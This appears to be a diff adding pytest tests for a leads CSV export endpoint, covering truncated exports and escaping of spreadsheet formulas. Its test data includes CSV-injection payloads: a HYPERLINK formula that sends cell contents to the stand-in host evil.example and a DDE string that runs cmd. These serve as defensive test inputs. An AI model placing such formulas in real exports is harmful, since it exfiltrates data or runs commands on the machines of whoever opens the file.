@@ -1,0 +1,48 @@
+"""Rows leave as CSV that a spreadsheet does not run, and say when they broke off."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from app.models import Lead
+from app.schemas.csv_export import BROKE_OFF, lines
+from app.schemas.leads import LeadOut
+
+NOON = 1_780_000_000
+
+
+def rows(client, account, **query):
+    bearer = {"Authorization": f"Bearer {account.key}"}
+    answer = client.get("/api/leads/export.json", query_string=query, headers=bearer)
+    assert answer.mimetype == "text/csv"
+    assert "leads.csv" in answer.headers["Content-Disposition"]
+    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
+
+
+def test_an_export_that_breaks_off_says_so_in_its_last_line(app):
+    def parts():
+        yield [Lead(id=7, campaign_id=1, subscriber=5, state=2, start_time=NOON, updated=NOON)]
+        raise OSError("the database is gone")
+
+    head, first, last = lines(LeadOut(many=True), parts())
+    assert head.startswith("id,campaign,")
+    assert first.startswith("7,1,5,")
+    assert last == f"{BROKE_OFF}\r\n"
+
+
+@pytest.mark.parametrize(
+    ("click", "shown"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-12", "-12"),
+        ("plain=1", "plain=1"),
+    ],
+)
+def test_a_spreadsheet_runs_nothing_that_people_have_typed(client, account, world, click, shown):
+    world.lead(world.campaign(), click=click)
+    assert [row["click"] for row in rows(client, account)] == [shown]
